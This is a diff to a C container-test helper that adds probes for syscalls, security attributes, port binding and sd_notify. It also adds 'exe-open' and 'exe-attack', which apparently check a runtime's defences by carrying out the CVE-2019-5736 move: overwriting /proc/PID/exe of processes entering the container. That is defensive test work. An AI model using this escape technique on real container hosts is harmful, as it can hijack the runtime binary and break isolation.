@@ -4,7 +4,9 @@
  *
  *   probe ids | caps | fds | rlimit NAME | cwd | umask | env NAME | nnp |
  *         seccomp | mount PATH | hostname | domainname | cgroup | oom |
- *         sysctl KEY | ns [NAME] | write PATH | mkdir PATH | exit N | sleep
+ *         sysctl KEY | ns [NAME] | write PATH | mkdir PATH | exit N | sleep |
+ *         syscall NR [ARG...] | attr FILE | exe-open PID | bind PORT |
+ *         exe-attack SECONDS
  *
  * It exits 0 unless asked otherwise (`exit N`, a signal during `sleep`), and 2
  * on bad usage or when the fact cannot be read (the reason on stderr).
@@ -18,11 +20,16 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <netinet/in.h>
 #include <sys/prctl.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/types.h>
+#include <sys/un.h>
 #include <sys/utsname.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "cleanup.h"
@@ -39,7 +46,8 @@ static int usage(void)
 {
 	fputs("usage: probe ids|caps|fds|rlimit NAME|cwd|umask|env NAME|nnp|seccomp|"
 	      "mount PATH|hostname|domainname|cgroup|oom|sysctl KEY|ns [NAME]|"
-	      "write PATH|mkdir PATH|exit N|sleep\n",
+	      "write PATH|mkdir PATH|exit N|sleep|syscall NR [ARG...]|attr FILE|"
+	      "exe-open PID|bind PORT|exe-attack SECONDS\n",
 	      stderr);
 	return PROBE_FAIL;
 }
@@ -397,6 +405,27 @@ static int probe_ns(const char *only)
 }
 
 /* `ok`, or the errno name of the failed create/write. */
+/* sd_notify by hand: MSG as one datagram to $NOTIFY_SOCKET. */
+static int probe_notify(const char *msg)
+{
+	struct sockaddr_un addr = {.sun_family = AF_UNIX};
+	const char *path = getenv("NOTIFY_SOCKET");
+	int fd;
+
+	if (!path || strlen(path) >= sizeof(addr.sun_path)) {
+		puts("NOTIFY_SOCKET unset");
+		return 1;
+	}
+	strcpy(addr.sun_path, path);
+	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (fd < 0 || sendto(fd, msg, strlen(msg), 0, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
+		printf("%s\n", strerror(errno));
+		return 1;
+	}
+	puts("sent");
+	return 0;
+}
+
 static int probe_write(const char *path)
 {
 	autoclose int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
@@ -437,6 +466,8 @@ __attribute__((noreturn)) static void probe_sleep(void)
 	for (;;)
 		pause();
 }
+
+static int probe_security(int argc, char **argv);
 
 static int probe(int argc, char **argv)
 {
@@ -484,7 +515,9 @@ static int probe(int argc, char **argv)
 		return probe_mkdir(arg);
 	if (strcmp(cmd, "exit") == 0)
 		return atoi(arg);
-	return usage();
+	if (strcmp(cmd, "notify") == 0)
+		return probe_notify(arg);
+	return probe_security(argc, argv);
 }
 
 int main(int argc, char **argv)
@@ -495,4 +528,184 @@ int main(int argc, char **argv)
 	if (fflush(stdout) != 0)
 		return fail("stdout");
 	return ret;
+}
+
+/* ---- security probes: syscall, attr, exe-open ------------------------------- */
+
+/* `syscall NR [ARG...]`: ok, or the errno name (what a seccomp filter answered). */
+static int probe_syscall(int argc, char **argv)
+{
+	long a[6] = {0};
+	long nr = strtol(argv[2], NULL, 0);
+
+	for (int i = 3; i < argc && i < 9; i++)
+		a[i - 3] = strtol(argv[i], NULL, 0);
+	errno = 0;
+	if (syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]) < 0) {
+		puts(errno_name(errno));
+		return 0;
+	}
+	puts("ok");
+	return 0;
+}
+
+/* `attr FILE`: /proc/self/attr/FILE (current, exec, apparmor/current), or the errno. */
+static int probe_attr(const char *name)
+{
+	char path[128], buf[256];
+	autoclose int fd = -1;
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/self/attr/%s", name);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0 || (n = read(fd, buf, sizeof(buf) - 1)) < 0) {
+		puts(errno_name(errno));
+		return 0;
+	}
+	buf[n] = '\0';
+	buf[strcspn(buf, "\n")] = '\0';
+	puts(n == 0 ? "(empty)" : buf);
+	return 0;
+}
+
+/*
+ * `exe-open PID`: the CVE-2019-5736 move, open /proc/PID/exe for writing and
+ * write to it; prints ok (the attack worked) or the errno that stopped it.
+ */
+static int probe_exe_open(const char *pid)
+{
+	char path[64];
+	autoclose int fd = -1;
+
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd < 0 || write(fd, "#!/bin/sh\n", 10) != 10) {
+		puts(errno_name(errno));
+		return 0;
+	}
+	puts("ok");
+	return 0;
+}
+
+/* `bind PORT`: bind a TCP socket on the loopback port; ok or the errno. */
+static int probe_bind(const char *port)
+{
+	struct sockaddr_in addr = {.sin_family = AF_INET,
+				   .sin_port = htons((uint16_t)atoi(port)),
+				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+	autoclose int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
+		puts(errno_name(errno));
+		return 0;
+	}
+	puts("ok");
+	return 0;
+}
+
+/* What one attempt on a new process's /proc/PID/exe found. */
+struct exe_attempt {
+	int pid;
+	char exe[160];
+	const char *open_wr, *open_path, *reopen;
+};
+
+/* Reopen an O_PATH fd of the exe for writing, retrying while it is executed. */
+static const char *reopen_for_write(int fd, double seconds)
+{
+	char path[64];
+	struct timespec pause = {0, 1000000};
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (double t = 0; t < seconds; t += 0.001) {
+		autoclose int wr = open(path, O_WRONLY | O_CLOEXEC);
+
+		if (wr >= 0)
+			return write(wr, "#!/bin/sh\n", 10) == 10 ? "ok" : errno_name(errno);
+		if (errno != ETXTBSY)
+			return errno_name(errno);
+		nanosleep(&pause, NULL);
+	}
+	return "ETXTBSY";
+}
+
+/* Try the CVE-2019-5736 moves on pid: write its exe, or keep it and write later. */
+static void attack_pid(int pid, struct exe_attempt *a)
+{
+	char path[64];
+	ssize_t n;
+	autoclose int wr = -1, keep = -1;
+
+	a->pid = pid;
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	n = readlink(path, a->exe, sizeof(a->exe) - 1);
+	a->exe[n > 0 ? n : 0] = '\0';
+	wr = open(path, O_WRONLY | O_CLOEXEC);
+	a->open_wr = wr >= 0 ? "ok" : errno_name(errno);
+	keep = open(path, O_PATH | O_CLOEXEC);
+	a->open_path = keep >= 0 ? "ok" : errno_name(errno);
+	a->reopen = keep >= 0 ? reopen_for_write(keep, 1.0) : "-";
+}
+
+/*
+ * `exe-attack SECONDS`: watch /proc for new processes (a runtime entering the
+ * container) and attack each one's /proc/PID/exe; one line per process seen.
+ * Binaries of the container itself (under /bin, /probe) are left alone.
+ */
+static int probe_exe_attack(const char *seconds)
+{
+	static struct exe_attempt seen[256];
+	int nseen = 0, self = getpid();
+	struct timespec start, now;
+
+	clock_gettime(CLOCK_MONOTONIC, &start);
+	puts("watching");
+	fflush(stdout);
+	do {
+		DIR *d = opendir("/proc");
+		struct dirent *de;
+
+		while (d && (de = readdir(d)) && nseen < 256) {
+			int pid = atoi(de->d_name), known = pid <= 1 || pid == self;
+
+			for (int i = 0; i < nseen && !known; i++)
+				known = seen[i].pid == pid;
+			if (known)
+				continue;
+			attack_pid(pid, &seen[nseen]);
+			if (strncmp(seen[nseen].exe, "/bin/", 5) == 0 ||
+			    strcmp(seen[nseen].exe, "/probe") == 0)
+				seen[nseen].open_wr = seen[nseen].open_path = seen[nseen].reopen =
+				    "-";
+			nseen++;
+		}
+		if (d)
+			closedir(d);
+		clock_gettime(CLOCK_MONOTONIC, &now);
+	} while (now.tv_sec - start.tv_sec < atoi(seconds));
+	for (int i = 0; i < nseen; i++)
+		printf("pid %d exe=%s open-write=%s open-path=%s reopen-write=%s\n", seen[i].pid,
+		       seen[i].exe[0] ? seen[i].exe : "?", seen[i].open_wr, seen[i].open_path,
+		       seen[i].reopen);
+	puts("done");
+	return 0;
+}
+
+static int probe_security(int argc, char **argv)
+{
+	const char *cmd = argv[1];
+
+	if (argc < 3)
+		return usage();
+	if (strcmp(cmd, "syscall") == 0)
+		return probe_syscall(argc, argv);
+	if (strcmp(cmd, "attr") == 0)
+		return probe_attr(argv[2]);
+	if (strcmp(cmd, "exe-open") == 0)
+		return probe_exe_open(argv[2]);
+	if (strcmp(cmd, "bind") == 0)
+		return probe_bind(argv[2]);
+	if (strcmp(cmd, "exe-attack") == 0)
+		return probe_exe_attack(argv[2]);
+	return usage();
 }
